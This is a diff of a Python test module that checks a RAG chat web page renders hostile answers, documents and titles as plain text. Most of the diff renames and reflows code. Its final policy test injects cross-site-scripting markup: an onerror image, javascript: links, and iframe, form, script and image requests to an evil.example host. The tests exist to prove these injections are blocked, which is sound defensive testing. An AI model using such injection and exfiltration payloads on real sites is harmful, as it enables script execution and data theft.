@@ -1,4 +1,4 @@
-"""Whatever a model or a document writes, the page loads nothing, runs nothing, shows it as text, and keeps its controls to itself."""
+"""Safety of the page: whatever a model or a document contains, it is shown as text, loads nothing and runs nothing."""
 
 from __future__ import annotations
 
@@ -19,7 +19,16 @@ from rag.library.ingest import InputFile
 from rag.pipeline import Pipeline, build_pipeline
 from rag.schema import Answer, CheckedFigure, Citation, Confidence, Disagreement, Passage, Source, Statement, Timings
 from rag.settings import Settings
-from tests.ui.web.conftest import Opener, ask, desk_of, served, wait_for_verdicts, with_draft
+from tests.ui.web.conftest import (
+    TIMEOUT_MS,
+    Opener,
+    app_state_of,
+    ask,
+    serve_page,
+    wait_for_verdicts,
+    wait_until_at_rest,
+    with_draft,
+)
 from tests.ui.web.payloads import PAYLOADS
 from ui.history.exchange import Exchange
 from ui.web.app_state import AppState
@@ -28,27 +37,30 @@ from ui.web.chat.markdown import literal_markdown, safe_markdown
 if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
 
-HARVEST = "苏州的秘密作物是水八仙。"  # a sentence that every hostile note holds, so that a question finds them
+HARVEST = "苏州的秘密作物是水八仙。"  # a sentence in every hostile note, so that a question finds them
 
 
 # --- the Markdown itself
 
 
-_OURS = re.compile(r"(?:<pre>)?<code>((?:[^!-/:-@\[-`{-~]|&#\d+;)*)</code>(?:</pre>)?")  # code: no sign in it but as an entity
-_LINKS = re.compile(r"\[(?:\\\[\d+\\\]|[^\[\]\n]+)\]\((?:#cite-1-\d+|#figure-1-\d+-(?:not|derived)|https?&#58;&#47;&#47;(?:\w|&#\d+;)+)\)")
+# code of the page's own: every punctuation mark in it is an entity
+_CODE = re.compile(r"(?:<pre>)?<code>((?:[^!-/:-@\[-`{-~]|&#\d+;)*)</code>(?:</pre>)?")
+_LINKS = re.compile(
+    r"\[(?:\\\[\d+\\\]|[^\[\]\n]+)\]"
+    r"\((?:#cite-1-\d+|#figure-1-\d+-(?:not|derived)|https?&#58;&#47;&#47;(?:\w|&#\d+;)+)\)")
 
 
 def assert_harmless(markdown: str) -> None:
-    """No tag, image or link but ours, and nothing that opens code, which browsers might close elsewhere."""
-    rest = re.sub(r"\\[!-/:-@\[-`{-~]", "x", _LINKS.sub("", _OURS.sub("", markdown)))
+    """No tag, image or link except the page's own, and nothing that opens code, which a browser might end elsewhere."""
+    rest = re.sub(r"\\[!-/:-@\[-`{-~]", "x", _LINKS.sub("", _CODE.sub("", markdown)))
     assert not re.search(r"<[A-Za-z/!?]|!\[|\]\(|`|~~~|://", rest), rest
 
 
 @pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
 def test_a_payload_becomes_text(payload: str) -> None:
-    for at in (len(payload), len(payload) // 2, len(payload) // 3):  # as a whole, and as far as it has come
-        assert_harmless(safe_markdown(payload[:at], 1, {1}, evidence=[payload]))
-        assert_harmless(literal_markdown(payload[:at]))
+    for length in (len(payload), len(payload) // 2, len(payload) // 3):  # complete, and while it is being written
+        assert_harmless(safe_markdown(payload[:length], 1, {1}, evidence=[payload]))
+        assert_harmless(literal_markdown(payload[:length]))
 
 
 @given(st.text(alphabet="`~<>![]()1a/ \n\\&-*|:\"'h#=x.@s>", max_size=80))
@@ -57,14 +69,15 @@ def test_no_text_becomes_more_than_text(text: str) -> None:
     assert_harmless(literal_markdown(text))
 
 
-_SIGNS = ("`", "```", "~~~", "\n", "[1]", "[a](#again-1)", "[a]: #up-1", "<b>", "> ", "- ", "1. ", "  ", "|", "\\", "甲")
+_SIGNS = (
+    "`", "```", "~~~", "\n", "[1]", "[a](#again-1)", "[a]: #up-1", "<b>", "> ", "- ", "1. ", "  ", "|", "\\", "甲")
 
 
 @given(st.lists(st.sampled_from(_SIGNS), max_size=30))
 def test_no_sequence_of_signs_opens_a_control(pieces: list[str]) -> None:
     markdown = safe_markdown("".join(pieces), 1, {1})
     assert_harmless(markdown)
-    assert not re.search(r"(?m)^[ \t>*+\-.\d)]*\[[^\]\n]*\]:", _LINKS.sub("x", _OURS.sub("x", markdown)))
+    assert not re.search(r"(?m)^[ \t>*+\-.\d)]*\[[^\]\n]*\]:", _LINKS.sub("x", _CODE.sub("x", markdown)))
 
 
 @pytest.mark.parametrize(("text", "shown"), [
@@ -72,11 +85,12 @@ def test_no_sequence_of_signs_opens_a_control(pieces: list[str]) -> None:
     ("See https://example.org/a.", "See [https://example.org/a](https://example.org/a)."),
     ("[https://example.org/a](https://example.org/a)", "[https://example.org/a](https://example.org/a)"),
     ("[年报](https://example.org/a?q=secret)", "年报 (https://example.org/a?q=secret)"),
-    ("[https://example.org/a](https://evil.example)", "[https://example.org/a](https://example.org/a) (https://evil.example)"),
+    ("[https://example.org/a](https://evil.example)",
+     "[https://example.org/a](https://example.org/a) (https://evil.example)"),
     ("https://example.org@evil.example/", "https://example.org@evil.example/"),
     ("https://example.org.evil.example", "https://example.org.evil.example"),
 ])
-def test_an_address_is_told_in_full_and_is_a_link_only_where_a_passage_has_it(text: str, shown: str) -> None:
+def test_an_address_is_shown_in_full_and_is_a_link_only_where_a_passage_has_it(text: str, shown: str) -> None:
     markdown = safe_markdown(text, 1, (), evidence=["据 https://example.org/a，2023 年。"])
     assert re.sub(r"&#(\d+);", lambda sign: chr(int(sign.group(1))), markdown) == shown
 
@@ -91,7 +105,7 @@ def test_code_is_shown_letter_for_letter(text: str, shown: str) -> None:
     assert re.sub(r"&#(\d+);", lambda sign: chr(int(sign.group(1))), markdown) == shown
 
 
-def test_headings_of_an_answer_stand_below_those_of_the_page() -> None:
+def test_headings_of_an_answer_are_below_those_of_the_page() -> None:
     assert safe_markdown("# 甲\n## 乙\n\n丙\n---\n丁") == "### 甲\n#### 乙\n\n丙\n\n---\n丁"
     assert safe_markdown("### One\n###### Two") == "### One\n###### Two"
 
@@ -101,116 +115,130 @@ def test_headings_of_an_answer_stand_below_those_of_the_page() -> None:
 
 _WATCH = """
     window.broken = [];
-    document.addEventListener('securitypolicyviolation', (event) => broken.push(`${event.effectiveDirective} ${event.blockedURI}`));
+    document.addEventListener('securitypolicyviolation',
+        (event) => broken.push(`${event.effectiveDirective} ${event.blockedURI}`));
 """
 _FORBIDDEN = (
-    "img, picture, source, iframe, frame, object, embed, video, audio, track, canvas, form, input, textarea, select, style, link, meta, "
-    "base, script, math, template, marquee, noscript, dialog, gradio-app, x-y, xmp, applet")
-_SHOWN = {  # what an answer may be made of
-    "P", "BR", "A", "CODE", "PRE", "UL", "OL", "LI", "STRONG", "EM", "DEL", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "H3", "H4",
-    "H5", "H6", "BLOCKQUOTE", "HR", "DIV", "SPAN", "class", "href", "target", "rel", "title", "align", "start", "aria-label"}
+    "img, picture, source, iframe, frame, object, embed, video, audio, track, canvas, form, input, textarea, select, "
+    "style, link, meta, base, script, math, template, marquee, noscript, dialog, gradio-app, x-y, xmp, applet")
+_ALLOWED = {  # elements and attributes of an answer
+    "P", "BR", "A", "CODE", "PRE", "UL", "OL", "LI", "STRONG", "EM", "DEL", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
+    "H3", "H4", "H5", "H6", "BLOCKQUOTE", "HR", "DIV", "SPAN", "class", "href", "target", "rel", "title", "align",
+    "start", "aria-label"}
 
 
 @pytest.fixture
 def attacked(open_page: Opener) -> Iterator[Callable[..., Page]]:
-    """Opens an address as `open_page` does, and watches; when the test ends nothing may have run, asked or been stopped by the policy."""
-    pages: list[Page] = []
-    asked: list[str] = []
+    """Opens an address like `open_page`, and watches it.
 
-    def opened(address: str, **options: object) -> Page:
+    When the test ends, no script of a payload may have run, no dialog or window may have opened, and the content
+    security policy may not have been needed.
+    """
+    pages: list[Page] = []
+    unexpected: list[str] = []
+
+    def open_watched(address: str, **options: object) -> Page:
         page = open_page(address, **options)
         page.evaluate(_WATCH)
         page.add_init_script(_WATCH)  # after a reload
-        page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
-        page.context.on("page", lambda other: asked.append(f"a window: {other.url}"))
+        page.on("dialog", lambda dialog: (unexpected.append(dialog.message), dialog.dismiss()))
+        page.context.on("page", lambda other: unexpected.append(f"a window: {other.url}"))
         pages.append(page)
         return page
 
-    yield opened
+    yield open_watched
     for page in pages:
         assert page.evaluate("window.hacked") is None
         assert page.evaluate("window.broken") == []
-    assert asked == []
+    assert unexpected == []
 
 
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory: pytest.TempPathFactory) -> AppState:
-    """A library of hostile notes, a conversation about them for each payload in every place, and one conversation titled by each."""
+    """An application over a library of hostile notes."""
     folder, home = tmp_path_factory.mktemp("notes"), tmp_path_factory.mktemp("home")
     pipeline = build_pipeline(Settings(home=home, chat_model=""))
     with pipeline.library.write_lock():
-        list(pipeline.library.add_files(InputFile(note) for note in notes(folder)))
-    return desk_of(pipeline)
+        list(pipeline.library.add_files(InputFile(note) for note in hostile_notes(folder)))
+    return app_state_of(pipeline)
 
 
-def notes(folder: Path) -> Iterator[Path]:
-    """A note for each payload, which is in its name, in all that it says of itself, and in its text; and one with all of them."""
+def hostile_notes(folder: Path) -> Iterator[Path]:
+    """A note for each payload, with the payload in its name, its metadata and its text; and one with all payloads."""
     for number, payload in enumerate(PAYLOADS.values()):
-        line = told(" ".join(payload.split()))
-        stated = {name: line for name in ("title", "author", "publisher", "container", "city", "url", "date")}
+        line = visible_text(" ".join(payload.split()))
+        fields = ("title", "author", "publisher", "container", "city", "url", "date")
+        metadata = json.dumps(dict.fromkeys(fields, line), ensure_ascii=False)
         name = re.sub(r"[/\x00-\x1f]", " ", line).encode()[:180].decode(errors="ignore")
         note = folder / f"{number} {name}.md"
-        head = json.dumps(stated, ensure_ascii=False)
-        note.write_text(f"---\n{head}\n---\n\n# {line}\n\n{HARVEST}{number}\n\n{payload}\n", encoding="utf-8")
+        text = f"---\n{metadata}\n---\n\n# {line}\n\n{HARVEST}{number}\n\n{payload}\n"
+        note.write_text(text, encoding="utf-8")
         yield note
-    everything = folder / "everything.md"
-    everything.write_text("# 全部\n\n" + "\n\n".join(PAYLOADS.values()), encoding="utf-8")
-    yield everything
+    all_payloads = folder / "everything.md"
+    all_payloads.write_text("# 全部\n\n" + "\n\n".join(PAYLOADS.values()), encoding="utf-8")
+    yield all_payloads
 
 
 def exchange(payload: str, number: int) -> Exchange:
-    """An answer of which everything is the payload."""
+    """An answer with the payload in every field."""
     half = payload[: len(payload) // 2]
     passage = Passage(1, f"p-{number}", "s", payload, payload, 1, 0, 9, payload, 0.5, "en", date=payload)
     statement = Statement(payload, payload, payload, 1, payload, payload)
-    figures = (CheckedFigure(half, 0, len(half), "not found", (1,), (payload,)),
-               CheckedFigure(payload, 0, len(payload), "derived", (1,), (payload,), payload))
-    return Exchange(Answer(
-        payload, "en", "partial", payload, (Citation(1, payload, passage.id, "s", payload, payload, 1, half, "verified quote"),),
-        (passage,), payload, Timings(1, 1, 1), thinking=payload, figures=figures,
-        disagreements=(Disagreement(payload, "conflict", (statement,) * 2),), confidence=Confidence("weak", (payload,)),
-        suggestions=(payload,)), problem=payload if number % 10 == 0 else "")
+    figures = (
+        CheckedFigure(half, 0, len(half), "not found", (1,), (payload,)),
+        CheckedFigure(payload, 0, len(payload), "derived", (1,), (payload,), payload))
+    citation = Citation(1, payload, passage.id, "s", payload, payload, 1, half, "verified quote")
+    answer = Answer(
+        payload, "en", "partial", payload, (citation,), (passage,), payload, Timings(1, 1, 1), thinking=payload,
+        figures=figures, disagreements=(Disagreement(payload, "conflict", (statement,) * 2),),
+        confidence=Confidence("weak", (payload,)), suggestions=(payload,))
+    return Exchange(answer, problem=payload if number % 10 == 0 else "")
 
 
-def told(text: str) -> str:
-    """A text without what no reader sees: control characters, signs that turn letters around, and what stands for them."""
+def visible_text(text: str) -> str:
+    """A text without invisible characters: control characters, direction controls, and their replacements."""
     return re.sub(r"[\x00-\x08\x0b-\x1f\u200b\u202a-\u202e\u2060-\u2069\ufdd0-\ufdd2\ufffd]", "", text)
 
 
-def letters(text: str) -> str:
-    return re.sub(r"\s", "", told(text))
+def without_spaces(text: str) -> str:
+    return re.sub(r"\s", "", visible_text(text))
 
 
-def words(text: str) -> str:
-    return re.sub(r"[\W_]", "", told(text))
+def only_letters(text: str) -> str:
+    return re.sub(r"[\W_]", "", visible_text(text))
 
 
 # --- in a conversation
 
 
 @pytest.mark.browser
-def test_kept_answers_and_their_evidence_stay_text(hostile: AppState, attacked: Callable[..., Page]) -> None:
-    id, source = "", Source("s", *["x"] * 2, "en")
+def test_saved_answers_and_their_evidence_stay_text(hostile: AppState, attacked: Callable[..., Page]) -> None:
+    id = ""
     for number, payload in enumerate(PAYLOADS.values()):
-        source = Source("s", payload, payload, "en", author=payload, publisher=payload, container=payload, date=payload, url=payload)
+        source = Source(
+            "s", payload, payload, "en", author=payload, publisher=payload, container=payload, date=payload,
+            url=payload)
         id, _ = hostile.history.save_exchange(id, exchange(payload, number), [source])
-    with served(hostile) as address:
+    with serve_page(hostile) as address:
         page = attacked(address)
         page.goto(f"{address}/?c={id}")
         wait_for_verdicts(page, len(PAYLOADS))
         page.evaluate("document.querySelectorAll('details').forEach((fold) => { fold.open = true; })")
-        page.wait_for_timeout(300)
-        assert forbidden(page, "#chat .message-content, .evidence, #conversations") == []
+        wait_until_at_rest(page)
+        assert forbidden_elements(page, "#chat .message-content, .evidence, #conversations") == []
         assert_replies_are_text(page)
-        for selector in ("#chat .words", "#evidence .passage", "#evidence .card .title", "#chat .aloud", "#chat .differ b[lang]"):
-            shown = page.eval_on_selector_all(selector, "(all) => all.map((each) => each.textContent)")
-            for payload, text in zip(PAYLOADS.values(), shown, strict=True):
-                assert letters(payload) in letters(text), selector
+        selectors = (
+            "#chat .words", "#evidence .passage", "#evidence .card .title", "#chat .aloud", "#chat .differ b[lang]")
+        for selector in selectors:
+            texts = page.eval_on_selector_all(selector, "(all) => all.map((each) => each.textContent)")
+            for payload, text in zip(PAYLOADS.values(), texts, strict=True):
+                assert without_spaces(payload) in without_spaces(text), selector
         written = page.locator("#chat .reply a:not([href^='#cite-'], [href^='#figure-']), #chat .words a")
         links = written.evaluate_all("(all) => all.map((a) => [a.innerText, a.getAttribute('href'), a.rel, a.target])")
         assert len(links) > 10
         for text, href, rel, target in links:
-            assert (text, rel, target) == (href, "noopener noreferrer", "_blank")  # the address itself; and a passage has it
+            # the address itself, which a passage has
+            assert (text, rel, target) == (href, "noopener noreferrer", "_blank")
         assert page.locator('#chat a[href^="#again-"]').count() == len(PAYLOADS)
         assert page.locator('#chat a[href^="#ask-"]').count() == 1
 
@@ -218,73 +246,82 @@ def test_kept_answers_and_their_evidence_stay_text(hostile: AppState, attacked: 
 def assert_replies_are_text(page: Page) -> None:
     replies = page.eval_on_selector_all("#chat .reply", "(all) => all.map((each) => each.textContent)")
     for (name, payload), text in zip(PAYLOADS.items(), replies, strict=True):
-        expected = re.sub(r"(```|~~~) *mermaid|^- \[x\]", "", payload)  # a fence's language and a box's tick go
-        assert words(unescape(expected)) == words(unescape(text)), name  # code by indentation shows entities
+        # the language of a code block and the tick of a box are not shown; code by indentation shows entities
+        expected = re.sub(r"(```|~~~) *mermaid|^- \[x\]", "", payload)
+        assert only_letters(unescape(expected)) == only_letters(unescape(text)), name
     tags = page.evaluate("""() => {
-        const isOurs = (each) => !each.closest('.code_wrap > button');  // gradio's, over code that is told by its indentation
+        // gradio adds a button to code by indentation
+        const isOurs = (each) => !each.closest('.code_wrap > button');
         const all = [...document.querySelectorAll('#chat .reply *')].filter(isOurs);
         return [...new Set(all.flatMap((each) => [each.tagName, ...each.getAttributeNames()]))];
     }""")
-    assert set(tags) <= _SHOWN
+    assert set(tags) <= _ALLOWED
 
 
-def forbidden(page: Page, within: str) -> list[str]:
-    """What stands in a part of the page and may not: elements that load or run something, and attributes that run something."""
+def forbidden_elements(page: Page, within: str) -> list[str]:
+    """Elements and attributes in a part of the page that load or run something, and links to other schemes."""
     return page.evaluate("""([within, forbidden]) => [...document.querySelectorAll(within)].flatMap((part) => {
         const all = [...part.querySelectorAll('*')], names = all.flatMap((each) => each.getAttributeNames());
+        const hrefs = all.map((each) => each.getAttribute('href')).filter(Boolean);
         return [
             ...all.filter((each) => each.matches(forbidden)).map((each) => each.outerHTML.slice(0, 200)),
             ...names.filter((name) => /^on|^style$|^src|^formaction/.test(name)),
-            ...all.map((each) => each.getAttribute('href')).filter((href) => href && !/^(#|https?:|[.][/]|page[/])/.test(href)),
+            ...hrefs.filter((href) => !/^(#|https?:|[.][/]|page[/])/.test(href)),
         ];
     })""", [within, _FORBIDDEN])
 
 
 @pytest.mark.browser
-def test_an_answer_under_way_stays_text(hostile: AppState, attacked: Callable[..., Page]) -> None:
+def test_an_answer_in_progress_stays_text(hostile: AppState, attacked: Callable[..., Page]) -> None:
     fenced = [payload for payload in PAYLOADS.values() if "```" in payload or "~~~" in payload]
     plain = [payload for payload in PAYLOADS.values() if payload not in fenced]
     altered = [PAYLOADS[name] for name in ("markers that are none", "footnote", "check box")]  # by pipeline and page
 
     def draft(*_: object) -> Iterator[str]:
-        for payload in [*plain, *fenced]:  # what opens a fence at the end, so that it hides no other
+        for payload in [*plain, *fenced]:  # those that open a code block at the end, so that they hide no other
             yield payload[: len(payload) // 2]
-            time.sleep(0.03)
+            time.sleep(0.03)  # the speed of a model, so that halves are drawn too; no test waits for it
             yield payload[len(payload) // 2 :] + "\n\n"
 
-    with served(AppState(with_draft(hostile.pipeline, draft), hostile.history, hostile.settings)) as address:
+    with serve_page(AppState(with_draft(hostile.pipeline, draft), hostile.history, hostile.settings)) as address:
         page = attacked(address)
         page.evaluate("""(forbidden) => {
             window.seen = [];
             const written = `#chat .reply :is(${forbidden}, a:not([href^="#cite-"], [href^="#figure-"]))`;
-            new MutationObserver(() => seen.push(...[...document.querySelectorAll(written)].map((each) => each.outerHTML)))
-                .observe(document.querySelector('#chat'), { childList: true, subtree: true });
+            const record = () => {
+                seen.push(...[...document.querySelectorAll(written)].map((each) => each.outerHTML));
+            };
+            new MutationObserver(record).observe(document.querySelector('#chat'), { childList: true, subtree: true });
         }""", _FORBIDDEN)
         ask(page, "苏州的秘密作物是什么？")
         assert page.evaluate("window.seen") == []
-        assert forbidden(page, "#chat .message-content, .evidence") == []
+        assert forbidden_elements(page, "#chat .message-content, .evidence") == []
         assert page.locator("#chat .reply a:not([href^='#cite-']):not([href^='#figure-'])").count() == 0
-        page.locator("#chat .reply a[href^='#cite-']").evaluate_all("(all) => all.forEach((chip) => chip.remove())")
-        shown = words(unescape(page.text_content("#chat .reply") or ""))
-        assert [payload for payload in plain if words(unescape(payload)) not in shown and payload not in altered] == []
+        page.locator("#chat .reply a[href^='#cite-']").evaluate_all("(all) => all.forEach((marker) => marker.remove())")
+        reply = only_letters(unescape(page.text_content("#chat .reply") or ""))
+        missing = [payload for payload in plain if only_letters(unescape(payload)) not in reply]
+        assert [payload for payload in missing if payload not in altered] == []
 
 
 @pytest.mark.browser
-def test_a_control_that_is_written_into_an_answer_or_a_passage_is_dead(hostile: AppState, attacked: Callable[..., Page]) -> None:
-    with served(hostile) as address:
+def test_a_control_in_the_text_of_an_answer_or_a_passage_does_nothing(
+    hostile: AppState, attacked: Callable[..., Page],
+) -> None:
+    with serve_page(hostile) as address:
         page = attacked(address)
         ask(page, "苏州的秘密作物是什么？")
         page.click('#chat a[href^="#cite-1-"] >> nth=0')
-        said = page.inner_text("#chat")
-        for place in ("#chat .reply", "#chat .words", "#evidence .passage"):  # as if it had come through all the same
+        conversation = page.inner_text("#chat")
+        for place in ("#chat .reply", "#chat .words", "#evidence .passage"):  # as if the text had not been escaped
             for href in ("#again-1", "#ask-1", "#up-1", "#edit-1", "#view-settings", "#scope", "#document"):
                 page.evaluate("""([place, href]) => {
-                    document.querySelector(place).insertAdjacentHTML('beforeend', `<a id="forged" href="${href}">press</a>`);
+                    const link = `<a id="forged" href="${href}">press</a>`;
+                    document.querySelector(place).insertAdjacentHTML('beforeend', link);
                     document.querySelector('#forged').click();
                     document.querySelector('#forged').remove();
                 }""", [place, href])
-        page.wait_for_timeout(300)
-        assert page.inner_text("#chat") == said
+        wait_until_at_rest(page)
+        assert page.inner_text("#chat") == conversation
         assert page.locator("dialog").count() == 0
         assert page.get_attribute("html", "data-view") == "chat"
         assert page.input_value("#ask textarea") == ""
@@ -295,17 +332,19 @@ def test_a_control_that_is_written_into_an_answer_or_a_passage_is_dead(hostile: 
 
 @pytest.mark.browser
 def test_titles_of_conversations_stay_text(hostile: AppState, attacked: Callable[..., Page]) -> None:
-    titles = [" ".join(told(payload).split())[:200] for payload in PAYLOADS.values()]
+    titles = [" ".join(visible_text(payload).split())[:200] for payload in PAYLOADS.values()]
     for payload, title in zip(PAYLOADS.values(), titles, strict=True):
-        id, _ = hostile.history.save_exchange("", Exchange(Answer(payload, "en", "partial", "Yes.", model="m", timings_ms=Timings(1, 1, 1))), [])
+        answer = Answer(payload, "en", "partial", "Yes.", model="m", timings_ms=Timings(1, 1, 1))
+        id, _ = hostile.history.save_exchange("", Exchange(answer), [])
         hostile.history.rename(id, title)
-    with served(hostile) as address:
+    with serve_page(hostile) as address:
         page = attacked(address)
         page.wait_for_selector("#conversations a.conversation")
-        shown = page.eval_on_selector_all("#conversations a.conversation", "(all) => all.map((a) => [a.textContent, a.title])")
+        links = page.eval_on_selector_all(
+            "#conversations a.conversation", "(all) => all.map((a) => [a.textContent, a.title])")
         for title in titles:
-            assert [title, title] in shown
-        assert forbidden(page, "#conversations") == []
+            assert [title, title] in links
+        assert forbidden_elements(page, "#conversations") == []
         for title in (PAYLOADS["image with an error"], PAYLOADS["unfolding"]):
             item = page.locator("#conversations li", has_text=title[:30]).first
             for act in ("rename", "delete"):
@@ -316,47 +355,50 @@ def test_titles_of_conversations_stay_text(hostile: AppState, attacked: Callable
                 assert page.locator("dialog.wonder :is(img, details, script)").count() == 0
                 page.click("dialog [data-close]")
         for payload in ("image with an error", "svg on load", "bare address"):
-            page.goto(f"{address}/?c={quote(PAYLOADS[payload])}")  # it names no conversation, and the page says so
+            page.goto(f"{address}/?c={quote(PAYLOADS[payload])}")  # there is no such conversation: the page says so
             page.wait_for_selector(".toast-body")
             assert page.locator(".toast-body :is(img, a)").count() == 0
 
 
 @pytest.mark.browser
 def test_documents_stay_text_in_every_list_and_dialog(hostile: AppState, attacked: Callable[..., Page]) -> None:
-    lines = [letters(line) for payload in PAYLOADS.values() for line in payload.split("\n")]
-    with served(hostile) as address:
+    lines = [without_spaces(line) for payload in PAYLOADS.values() for line in payload.split("\n")]
+    with serve_page(hostile) as address:
         page = attacked(address)
         ask(page, "苏州的秘密作物是什么？")
         page.click("#evidence-1 .card[open] .tools a[href='#document'] >> nth=0")
         page.wait_for_selector("dialog.reader article")
         assert HARVEST in page.inner_text("dialog.reader article")
-        assert forbidden(page, "dialog.reader") == []
+        assert forbidden_elements(page, "dialog.reader") == []
         page.click("dialog.reader [data-close]")
         page.click("#scope-line a")
         page.wait_for_selector("dialog.scope label")
         assert page.locator("dialog.scope label").count() == len(PAYLOADS) + 1
-        assert forbidden(page, "dialog.scope label > span") == []
+        assert forbidden_elements(page, "dialog.scope label > span") == []
         everything = page.get_attribute("dialog.scope label:has-text('全部') input", "value")
         page.evaluate("async (id) => huwen.dialog(await huwen.html(`page/sources/${id}`), 'reader')", everything)
-        assert forbidden(page, "dialog.reader") == []
-        shown = letters(page.text_content("dialog.reader article") or "")
-        assert len([line for line in lines if line not in shown]) <= 12  # a few are mended when a document is read: wide signs, headings
+        assert forbidden_elements(page, "dialog.reader") == []
+        text = without_spaces(page.text_content("dialog.reader article") or "")
+        # a few lines change when a document is loaded: full-width characters, headings
+        assert len([line for line in lines if line not in text]) <= 12
 
 
 # --- the policy
 
 
 @pytest.mark.browser
-def test_the_policy_stops_what_would_come_through(pipeline: Pipeline, browser: Browser) -> None:
-    with served(pipeline) as address:
+def test_the_policy_stops_markup_that_was_not_escaped(pipeline: Pipeline, browser: Browser) -> None:
+    with serve_page(pipeline) as address:
         page = browser.new_page()
+        page.set_default_timeout(TIMEOUT_MS)
         page.goto(address)
         page.wait_for_selector("#ask textarea")
         page.evaluate(_WATCH)
         page.evaluate("""() => {
             const into = document.querySelector('#evidence');
-            into.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked=1"><iframe src="https://evil.example"></iframe>'
-                + '<a href="javascript:window.hacked=2" id="go">x</a><form action="https://evil.example" id="out"></form>');
+            into.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.hacked=1">'
+                + '<iframe src="https://evil.example"></iframe><a href="javascript:window.hacked=2" id="go">x</a>'
+                + '<form action="https://evil.example" id="out"></form>');
             into.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 3' }));
             into.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }));
             document.querySelector('#go').click();
@@ -365,7 +407,7 @@ def test_the_policy_stops_what_would_come_through(pipeline: Pipeline, browser: B
             new Image().src = 'https://evil.example/secret.png';
         }""")
         page.wait_for_function("broken.length >= 8")
-        stopped = {told.split()[0] for told in page.evaluate("broken")}
+        stopped = {violation.split()[0] for violation in page.evaluate("broken")}
         assert page.evaluate("window.hacked") is None
         assert stopped >= {"script-src-attr", "script-src-elem", "frame-src", "form-action", "connect-src", "img-src"}
         page.close()
